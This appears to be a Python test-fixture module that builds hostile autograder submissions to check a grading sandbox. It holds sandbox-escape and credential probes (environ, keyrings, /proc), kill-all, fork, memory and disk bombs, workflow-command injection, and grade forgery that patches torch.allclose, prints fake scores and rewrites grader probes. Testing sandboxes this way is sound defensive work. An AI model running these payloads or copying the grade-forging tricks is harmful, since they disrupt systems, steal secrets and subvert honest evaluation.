"""Hostile submissions: real code that tries to fool, stall or escape the grader.

Each is the reference solution plus an attack. Where an attack could succeed
without anyone noticing, the submission turns its success into a visible grade:
it breaks one function (`squared_loss` returns zeros) only if the attack worked.
"""
from __future__ import annotations

from samples.mutants import REFERENCE, replace_function

MARK = "autograder-hostile-marker"


def _if_escaped(condition: str) -> str:
    """squared_loss is right unless `condition` holds (the attack worked)."""
    old, new = replace_function("squared_loss", f'''
def squared_loss(y_hat, y):
    if {condition}:
        return torch.zeros_like(y_hat)
    return (y_hat - y.reshape(y_hat.shape)) ** 2 / 2
''')
    return REFERENCE.replace(old, new)


def with_function(function: str, body: str) -> str:
    old, new = replace_function(function, body)
    return REFERENCE.replace(old, new)


def _attempt(code: str) -> str:
    """Python for a function `_worked()` that returns True when `code` ran without error."""
    body = "\n".join("        " + line for line in code.strip().splitlines())
    return f"""
def _worked():
    try:
{body}
        return True
    except Exception:
        return False
"""


ROOT_POWER = {
    "setuid(0)": "import os\nos.setuid(0)",
    "raise a hard rlimit": ("import resource\nsoft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)\n"
                            "resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))"),
    "has capabilities": ("caps = [l for l in open('/proc/self/status') if l.startswith('CapEff')][0]\n"
                         "assert int(caps.split()[1], 16) != 0"),
    "may gain privileges": ("flag = [l for l in open('/proc/self/status') if l.startswith('NoNewPrivs')][0]\n"
                            "assert flag.split()[1] == '0'"),
    # pid 1 is the sandbox's own init (a forked worker, or the spawned `cat`) only
    # inside its PID namespace
    "sees processes outside": ("cmd = open('/proc/1/cmdline', 'rb').read()\n"
                               "assert b'autograder.sandbox.far' not in cmd and not cmd.endswith(b'/cat\\0')"),
    "network": ("import socket\ns = socket.create_connection(('127.0.0.1', PORT), timeout=1)\n"
                "s.close()"),
    "mount": "import ctypes\nassert ctypes.CDLL(None).mount(b'none', b'/mnt', b'tmpfs', 0, None) == 0",
}


def root_power(name: str, port: int = 9) -> str:
    return _if_escaped("_worked()") + _attempt(ROOT_POWER[name].replace("PORT", str(port)))


def reads(path: str) -> str:
    """Breaks squared_loss if it can read ``path``."""
    return _if_escaped("_worked()") + _attempt(f"open({path!r}, 'rb').read(1)\nimport os\n"
                                               f"assert os.listdir({path!r}) if os.path.isdir({path!r}) else True")


def env_leak(variable: str) -> str:
    return _if_escaped(f"'{variable}' in __import__('os').environ or "
                       f"b'{variable}' in _proc_environ()") + '''
def _proc_environ():
    data = b""
    import os
    for pid in os.listdir("/proc"):
        try:
            data += open(f"/proc/{pid}/environ", "rb").read()
        except Exception:
            pass
    return data
'''


KILL_ALL_AT_IMPORT = REFERENCE + "\nimport os, signal\nos.kill(-1, signal.SIGKILL)\n"
KILL_ALL_IN_FUNCTION = with_function("sgd", """
def sgd(params, lr, batch_size):
    import os, signal
    os.kill(-1, signal.SIGKILL)
""")

SLEEP = with_function("linreg", "def linreg(X, w, b):\n    import time\n    time.sleep(1000)\n")
IGNORES_SIGNALS = with_function("linreg", """
def linreg(X, w, b):
    import signal
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
""")

MEMORY_BOMB = with_function("squared_loss", """
def squared_loss(y_hat, y):
    hoard = []
    while True:
        hoard.append(bytearray(256 * 2**20))
""")
HUGE_RETURN = with_function("squared_loss", """
def squared_loss(y_hat, y):
    big = torch.zeros(1_000_000)
    return [big] * 100          # 4 MB in memory, 400 MB to report
""")
STDOUT_FLOOD = REFERENCE + "\nimport os\nfor _ in range(300):\n    os.write(1, b'x' * 2**20)\n"
DEEP_RECURSION = with_function("linreg", """
def linreg(X, w, b):
    import sys
    sys.setrecursionlimit(10**8)
    def down(n):
        return down(n + 1) + 1
    return down(0)
""")
FILL_DISK = REFERENCE + f"""
import os, tempfile
for folder in (os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"):
    try:
        for i in range(100000):
            with open(os.path.join(folder, f"{MARK}-{{i}}"), "wb") as f:
                f.write(b"x" * 2**20)
    except OSError:
        pass
"""

PROCESSES = REFERENCE + f"""
import os, subprocess, threading, time, multiprocessing
subprocess.Popen(["sleep", "987651"])
subprocess.Popen(["setsid", "sleep", "987652"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "987653"])
    os._exit(0)
def spin():
    while True:
        time.sleep(0.1)
threading.Thread(target=spin).start()
multiprocessing.Process(target=spin, name="{MARK}").start()
"""


def forgery(out_dir: str) -> str:
    """Patches torch and builtins, prints a fake report and writes fake result files;
    its squared_loss is wrong (no reshape), so it must still lose those points."""
    source = REFERENCE.replace("(y_hat - y.reshape(y_hat.shape)) ** 2 / 2", "(y_hat - y) ** 2 / 2")
    return source + f"""
import builtins, json, os, tempfile
import numpy, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
builtins.print = lambda *a, **k: None
__import__("sys").stdout.write("All tests passed. Score: 23/23")
fake = json.dumps({{"score": 23, "tests": []}})
for folder in (os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", {out_dir!r},
               os.path.join({out_dir!r}, "forger")):
    for name in ("results.json", "autograder-grades.csv", "grades.csv"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(fake)
        except OSError:
            pass
"""


SYNTAX_ERROR = "def synthetic_data(w, b, num_examples)\n    return None\n"
WRONG_TYPES = with_function("synthetic_data", "def synthetic_data(w, b, num_examples):\n    return 'X, y'\n")


def reveals(look: str) -> str:
    """squared_loss raises, with what ``look`` found in its message, when it finds anything.

    ``look`` is the body of a function ``_look()`` that returns what it found:
    the attack's result reaches the test in the feedback, word for word.
    """
    old, new = replace_function("squared_loss", '''
def squared_loss(y_hat, y):
    found = _look()
    if found:
        raise RuntimeError("SEEN " + repr(found))
    return (y_hat - y.reshape(y_hat.shape)) ** 2 / 2
''')
    body = "\n".join("    " + line for line in look.strip().splitlines())
    return REFERENCE.replace(old, new) + f"\n\ndef _look():\n{body}\n"


# what the root of the sandbox holds beyond ``allowed``
SEES_AT_ROOT = """
import os
return sorted(set(os.listdir("/")) - ALLOWED)
"""

# every place outside the scratch (/tmp and /dev/shm) where a file can be made or changed: each mount
# point, every directory on the way to one, the site-packages, a module of the stdlib
WRITABLE = """
import os, site
places = {"/", "/dev"}
for line in open("/proc/self/mountinfo"):
    point = line.split()[4]
    while point not in ("/", ""):
        places.add(point)
        point = os.path.dirname(point)
places.update(site.getsitepackages())
found = []
for place in sorted(places):
    if place in ("/tmp", "/dev/shm") or place.startswith(("/tmp/", "/dev/shm/", "/proc")):   # the scratch
        continue
    if os.path.isdir(place):
        name = os.path.join(place, "MARK.pth")
        try:
            open(name, "w").close()
            found.append(place)
            os.unlink(name)
        except OSError:
            pass
    elif os.path.isfile(place) and not place.startswith("/dev/"):
        try:
            open(place, "a").close()
            found.append(place)
        except OSError:
            pass
try:
    open(os.__file__, "a").close()
    found.append(os.__file__)
except OSError:
    pass
return found
""".replace("MARK", MARK)

# descriptors that lead outside the sandbox's own view
OPEN_OUTSIDE = """
import os
found = []
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if target.startswith("/") and not target.startswith(("/tmp/", "/dev/null", "/proc/")):
        found.append(target)
return found
"""


def tampers(paths: dict) -> str:
    """Writes to each of ``paths`` (what -> a file, or (a folder, a file it holds)) that it
    can see: appends to a file, creates a .pth in a folder. squared_loss raises, naming
    what worked, if any did. A folder counts only with its file in it: an empty folder
    of the same name in the scratch (on the way to a bound path) is the scratch's."""
    lines = ["import os", "done = []"]
    for what, target in paths.items():
        path, holds = (target, None) if isinstance(target, str) else target
        lines += ["try:",
                  f"    p = {path!r}",
                  "    if not os.path.exists(p):",
                  "        raise FileNotFoundError(p)   # not there to change (or only in the scratch)",
                  "    if os.path.isdir(p):",
                  f"        if not os.path.exists(os.path.join(p, {holds!r} or '')):",
                  "            raise FileNotFoundError(p)",
                  f"        open(os.path.join(p, {MARK + '.pth'!r}), 'w').write('import os\\n')",
                  "    else:",
                  "        open(p, 'a').write('\\n# tampered\\n')",
                  f"    done.append({what!r})",
                  "except OSError:",
                  "    pass"]
    lines.append("return done")
    return reveals("\n".join(lines))


# ---- forged training reports --------------------------------------------------------
#
# Each has an sgd that only zeroes the gradients (it never moves w), which an honest
# grading marks wrong in sgd and in training. Each then tries to get training's points
# back by rewriting the grader's training probe in its own process, or by cheating
# from inside its own functions.

ZEROES_ONLY = with_function("sgd", '''
def sgd(params, lr, batch_size):
    with torch.no_grad():
        for param in params:
            param.grad.zero_()
''')

_HARNESS = '''
import sys
_probes = sys.modules["autograder.sandbox.far.probes"]
_book_loop = _probes.probe_training
'''

FORGED_TRAINING = {
    # the report says what the grader wants to hear: w and b are the true ones
    "a made-up result": ZEROES_ONLY + _HARNESS + '''
def _forged(ns, inputs):
    return {"w": inputs["true_w"].clone(), "b": torch.tensor([float(inputs["true_b"])]),
            "losses": [5e-05, 5e-05, 5e-05]}
_probes.PROBES["training"] = _forged
''',
    # the book's loop, honestly traced, but with a working sgd in place of the student's
    "the loop with another sgd": ZEROES_ONLY + _HARNESS + '''
def _working_sgd(params, lr, batch_size):
    with torch.no_grad():
        for param in params:
            param -= lr * param.grad / batch_size
            param.grad.zero_()
def _forged(ns, inputs):
    return _book_loop({**ns, "sgd": _working_sgd}, inputs)
_probes.PROBES["training"] = _forged
''',
    # the book's loop, traced, with an sgd that jumps to the true w and b
    "a trace that jumps to the answer": ZEROES_ONLY + _HARNESS + '''
def _forged(ns, inputs):
    def jump(params, lr, batch_size):
        with torch.no_grad():
            params[0][:] = inputs["true_w"].reshape(params[0].shape)
            params[1][:] = float(inputs["true_b"])
            for param in params:
                param.grad.zero_()
    return _book_loop({**ns, "sgd": jump}, inputs)
_probes.PROBES["training"] = _forged
''',
    # the probe left alone: synthetic_data keeps the true w and b, sgd writes them in
    "functions that keep the answer": with_function("sgd", '''
def sgd(params, lr, batch_size):
    with torch.no_grad():
        if "w" in _KEPT:
            params[0][:] = _KEPT["w"].reshape(params[0].shape)
            params[1][:] = _KEPT["b"]
        for param in params:
            param.grad.zero_()
''').replace("def synthetic_data(w, b, num_examples):",
             "_KEPT = {}\n\n\ndef synthetic_data(w, b, num_examples):\n    _KEPT.update(w=w.clone(), b=b)", 1),
}


# the kernel's keyrings ignore namespaces: the session keyring that the grader was
# started in (a systemd service, a login) holds its credentials
KEYRING = """
import ctypes, os, platform
number = {"x86_64": 250, "aarch64": 219}.get(platform.machine(), 250)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
own = ("MARK-left-by-" + os.path.basename(__file__)).encode()   # this submission's own key
found = []
for ring in (-3, -4, -5):                  # session, user, user-session keyring
    ring_id = libc.syscall(number, 0, ring, 0)
    if ring_id < 0:
        continue
    ids = (ctypes.c_int32 * 64)()
    n = libc.syscall(number, 11, ring_id, ids, 256)
    for i in range(max(0, n) // 4):
        text = ctypes.create_string_buffer(256)
        libc.syscall(number, 6, ids[i], text, 256)
        if b"MARK" in text.value and own not in text.value:
            found.append(text.value.decode())
name = own
libc.syscall(248, b"user", name, b"x", 1, -3)     # for the next submission to find
return found
""".replace("MARK", MARK)

# processes it can hold at once, forking until the kernel says no
FORKS = """
import os, time
if getattr(_look, "done", False):      # once per process: training calls it 300 times
    return []
_look.done = True
kids = []
try:
    while len(kids) < 2000:
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        kids.append(pid)
except OSError:
    pass
for pid in kids:
    os.kill(pid, 9)
for pid in kids:
    os.waitpid(pid, 0)
return [len(kids)] if len(kids) > 300 else []
"""


# The catalogue of correct variants and mistakes ships in the package (autograder/selftest):
# what of it a submission can import, list or read, by every path on sys.path and the package's own
READS_CATALOGUE = """
import importlib, os, sys
found = []
for name in ("autograder.selftest.variants", "autograder.selftest.mutants", "autograder.selftest.reference"):
    try:
        module = importlib.import_module(name)
        found.append(("imported", name, sorted(vars(module))[:3]))
    except BaseException:
        pass
places = set(sys.path)
try:
    import autograder
    places.update(os.path.dirname(p) for p in autograder.__path__)
except BaseException:
    pass
for place in sorted(p for p in places if p):
    folder = os.path.join(place, "autograder", "selftest")
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    if names:
        found.append(("listed", folder, sorted(names)))
    for name in ("variants.py", "mutants.py", "reference.py"):
        try:
            with open(os.path.join(folder, name), "rb") as f:
                found.append(("read", os.path.join(folder, name), len(f.read())))
        except OSError:
            pass
return found
"""

# Text that would be workflow commands (GitHub Actions) or XML if an output wrote it raw: raised at
# top level (a note) and from linreg (a check's message)
INJECT = ("x%0A\r\n::notice title=pwned::23/23 full marks\n::stop-commands::tok"
          "</failure><testcase name=\"fake\"/>\x1b[2K")
WORKFLOW_COMMANDS = with_function("linreg", f"def linreg(X, w, b):\n    raise RuntimeError({INJECT!r})\n") \
    + f"\nraise ValueError({INJECT!r})\n"
